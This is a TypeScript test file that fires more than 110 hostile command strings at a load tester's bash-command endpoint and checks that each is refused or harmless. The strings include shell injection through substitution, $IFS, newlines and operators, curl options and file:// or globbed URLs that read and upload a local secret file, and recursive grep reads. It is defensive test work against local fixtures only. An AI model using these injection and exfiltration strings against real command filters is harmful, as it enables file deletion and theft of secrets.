// The load tester's command policy against hostile commands, judged by what they could do: each one is
// sent to the real load tester and must be refused or run without side effect. Afterwards the marker
// file still exists, no new file appeared, and no request the local receiver saw carries the secret.
import { existsSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { HttpRecorder } from "../dev/services/http-recorder.ts";
import { LoadTesterProcess } from "../dev/services/loadtester.ts";

const canary = { name: "podinfo", namespace: "apps" };
let receiver: HttpRecorder;
let tester: LoadTesterProcess;

beforeAll(async () => {
  receiver = await new HttpRecorder().start();
  tester = await new LoadTesterProcess().start();
});
afterAll(async () => {
  await tester?.stop();
  await receiver?.stop();
});

/**
 * Hostile commands by class, each class in several spellings: what curl and grep really accept (long
 * options in any case and by any unique prefix, clustered short options, URL globs that spell a scheme
 * no rule sees, name@file values) besides the shell tricks no shell is there to run.
 */
function hostileCommands(url: string, dir: string) {
  const secret = join(dir, "token");
  const marker = join(dir, "marker");
  const out = join(dir, "written");
  const classes: Record<string, string[]> = {
    "shell syntax": [
      // substitution in every quoting form, arithmetic, parameter expansion
      `curl -s ${url}/$(rm -f ${marker})`,
      `curl -s "${url}/$(rm -f ${marker})"`,
      `curl -s '${url}/$(rm -f ${marker})'`,
      `curl -s ${url}/\`rm -f ${marker}\``,
      `curl -s "${url}/\`rm -f ${marker}\`"`,
      `curl -s ${url}/$((1+1))`,
      `curl -s ${url}/\${HOME}`,
      `curl -s "${url}/$(cat ${secret})"`,
      `curl -s <(cat ${secret}) ${url}/`,
      // $IFS, environment variables
      `curl\${IFS}-o\${IFS}${out}\${IFS}${url}/`,
      `curl$IFS-d$IFS@${secret}$IFS${url}/`,
      `curl -s ${url}/$KUBERNETES_SERVICE_HOST`,
      `x=1 rm -f ${marker}`,
      // newline, carriage return and NUL tricks
      `curl -s ${url}/\nrm -f ${marker}`,
      `curl -s ${url}/\rrm -f ${marker}`,
      `curl -s ${url}/\0-o${out}`,
      // lists, pipes, background, subshells, comments
      `curl -s ${url}/ ; rm -f ${marker}`,
      `curl -s ${url}/ && rm -f ${marker}`,
      `curl -s ${url}/ || rm -f ${marker}`,
      `curl -s ${url}/ | rm -f ${marker}`,
      `curl -s ${url}/ & rm -f ${marker}`,
      `( rm -f ${marker} )`,
      `curl -s ${url}/ # ; rm -f ${marker}`,
      // redirections
      `curl -s ${url}/ > ${out}`,
      `curl -s ${url}/ >> ${out}`,
      `curl -s ${url}/ 2> ${out}`,
      `curl -s -d @- ${url}/ < ${secret}`,
      // shell globbing
      `curl -s ${url}/*`,
      `grep token ${dir}/*`,
      // other programs and paths
      `sh -c 'rm -f ${marker}'`,
      `bash -c "rm -f ${marker}"`,
      `env rm -f ${marker}`,
      `/usr/bin/curl -o ${out} ${url}/`,
    ],
    "curl writes a file": [
      `curl -o ${out} ${url}/`,
      `curl -so${out} ${url}/`,
      `curl -s ${url}/ -o ${out}`,
      `curl --output ${out} ${url}/`,
      `curl --output=${out} ${url}/`,
      `curl --OUTPUT ${out} ${url}/`,
      `curl --Output ${out} ${url}/`,
      `curl -O ${url}/written`,
      `curl --remote-n ${url}/written`,
      `curl -D ${out} ${url}/`,
      `curl --dump-he ${out} ${url}/`,
      `curl --DUMP-HEADER ${out} ${url}/`,
      `curl -c ${out} ${url}/`,
      `curl --cookie-j ${out} ${url}/`,
      `curl --trace ${out} ${url}/`,
      `curl --trace-as ${out} ${url}/`,
      `curl --stderr ${out} ${url}/`,
      `curl --std ${out} ${url}/`,
      `curl --libc ${out} ${url}/`,
      `curl --etag-s ${out} ${url}/`,
      `curl --hst ${out} ${url}/`,
      `curl -s ${url}/ --next -o ${out} ${url}/`,
      `curl -s ${url}/ -: -o${out} ${url}/`,
      `curl -w '%output{${out}}x' ${url}/`,
    ],
    "curl sends or reads a local file": [
      `curl -d @${secret} ${url}/`,
      `curl -d "@${secret}" ${url}/`,
      `curl -sd@${secret} ${url}/`,
      `curl --DATA @${secret} ${url}/`,
      `curl --data-bin @${secret} ${url}/`,
      `curl --data-binary @${secret} ${url}/`,
      `curl --data-urlencode x@${secret} ${url}/`,
      `curl --data-urlenc @${secret} ${url}/`,
      `curl --Data-UrlEncode x@${secret} ${url}/`,
      `curl --json @${secret} ${url}/`,
      `curl --url-query name@${secret} ${url}/`,
      `curl --url-query @${secret} ${url}/`,
      `curl --url-q +x@${secret} ${url}/`,
      `curl -F f=@${secret} ${url}/`,
      `curl -F "f=<${secret}" ${url}/`,
      `curl --form 'f=x;headers=@${secret}' ${url}/`,
      `curl -T ${secret} ${url}/`,
      `curl --upload-file ${secret} ${url}/`,
      `curl --upload-f ${secret} ${url}/`,
      `curl --UPLOAD ${secret} ${url}/`,
      `curl -K ${secret} ${url}/`,
      `curl --conf ${secret} ${url}/`,
      `curl -H @${secret} ${url}/`,
      `curl --head @${secret} ${url}/`,
      `curl --heade @${secret} ${url}/`,
      `curl -w @${secret} ${url}/`,
      `curl --write-o @${secret} ${url}/`,
      `curl -b ${secret} ${url}/`,
      `curl --cook ${secret} ${url}/`,
      `curl --unix-s ${secret} ${url}/`,
    ],
    "curl URL schemes and globs": [
      `curl file://${secret}`,
      `curl FILE://${secret}`,
      `curl --url file://${secret}`,
      `curl --URL file://${secret}`,
      `curl '{f,h}ile://${secret}'`,
      `curl 'fil{e,x}://${secret}'`,
      `curl '[f-f]ile://${secret}'`,
      `curl 'fi[l-l]e://${secret}'`,
      `curl -- file://${secret}`,
      `curl --proto =all file://${secret}`,
      `curl --no-globoff '{f,h}ile://${secret}'`,
      `curl -s ${url}/ | grep x ${secret}`,
    ],
    "grep reads files": [
      `grep -r token ${dir}`,
      `grep -r ${"TOPSECRET"}`,
      `grep --rec ${"TOPSECRET"}`,
      `grep --recursive=x ${"TOPSECRET"}`,
      `grep --derefe ${"TOPSECRET"}`,
      `grep -R ${"TOPSECRET"}`,
      `grep -nri ${"TOPSECRET"}`,
      `grep --director=recurse ${"TOPSECRET"}`,
      `grep -drecurse ${"TOPSECRET"}`,
      `grep --dir recurse ${"TOPSECRET"}`,
      `grep --incl=token -r ${"TOPSECRET"}`,
      `grep token ${secret}`,
      `grep ${"TOPSECRET"} -- ${secret}`,
      `grep -e ${"TOPSECRET"} ${secret}`,
      `grep -f ${secret}`,
      `grep --fil=${secret}`,
      `grep --file ${secret}`,
      `grep -sf${secret}`,
      `grep --exclude-f=${secret} x`,
    ],
  };
  return { classes, secret, marker, out };
}

describe("hostile commands", { timeout: 120_000 }, () => {
  it("are refused or run without side effect", async () => {
    const value = `TOPSECRET-${randomBytes(6).toString("hex")}`;
    const { classes, secret, marker, out } = hostileCommands(
      receiver.url,
      tester.dir,
    );
    const cmds = Object.values(classes).flat();
    // Printed so a reader of the test output sees how much was tried against each surface.
    console.info(
      `load tester: ${cmds.length} hostile commands tried (${Object.entries(
        classes,
      )
        .map(([name, list]) => `${name} ${list.length}`)
        .join(", ")})`,
    );
    expect(cmds.length).toBeGreaterThanOrEqual(110);
    writeFileSync(secret, value);
    writeFileSync(marker, "keep");
    const filesBefore = readdirSync(tester.dir).sort();
    const outcomes: Record<string, number> = {};
    const harm: string[] = [];
    for (const cmd of cmds) {
      const answer = await tester.post("/", {
        ...canary,
        metadata: { type: "bash", cmd, timeout: "5s" },
      });
      outcomes[cmd] = answer.status;
      if (answer.status === 403)
        expect(answer.body, cmd).toMatch(/^command refused: /);
      // Nothing a command printed may carry the file back in the task's answer either.
      if (answer.body.includes(value)) harm.push(`answer of: ${cmd}`);
      if (!existsSync(marker)) {
        harm.push(`deleted the marker: ${cmd}`);
        writeFileSync(marker, "keep");
      }
      const files = readdirSync(tester.dir).sort();
      if (JSON.stringify(files) !== JSON.stringify(filesBefore)) {
        harm.push(`wrote files (${files.join(", ")}): ${cmd}`);
        for (const f of files)
          if (!filesBefore.includes(f))
            rmSync(join(tester.dir, f), { recursive: true });
      }
      const sent = receiver.requests.filter((r) =>
        `${r.path} ${JSON.stringify(r.headers)} ${r.body}`.includes(value),
      );
      if (sent.length > 0) {
        harm.push(`sent the file to the receiver: ${cmd}`);
        receiver.requests.length = 0;
      }
    }
    expect(harm).toEqual([]);
    expect(existsSync(out)).toBe(false);
    // Almost all are refused outright; the rest ran as plain curl calls with literal arguments.
    const ran = Object.entries(outcomes).filter(([, status]) => status !== 403);
    expect(ran.map(([cmd]) => cmd)).toEqual([
      `curl -s '${receiver.url}/$(rm -f ${marker})'`,
    ]);
  });

  it("still runs the seed's acceptance test as a pipeline", async () => {
    receiver.respond = (r) =>
      r.path === "/token"
        ? { status: 200, body: '{"token":"abc"}' }
        : { status: 200, body: "ok" };
    const answer = await tester.post("/", {
      ...canary,
      metadata: {
        type: "bash",
        cmd: `curl -sd 'test' ${receiver.url}/token | grep token`,
      },
    });
    expect(answer).toEqual({ status: 200, body: '{"token":"abc"}' });
    const failing = await tester.post("/", {
      ...canary,
      metadata: {
        type: "bash",
        cmd: `curl -sd 'test' ${receiver.url}/nothing | grep token`,
      },
    });
    expect(failing).toEqual({ status: 400, body: "exit status 1" });
  });
});
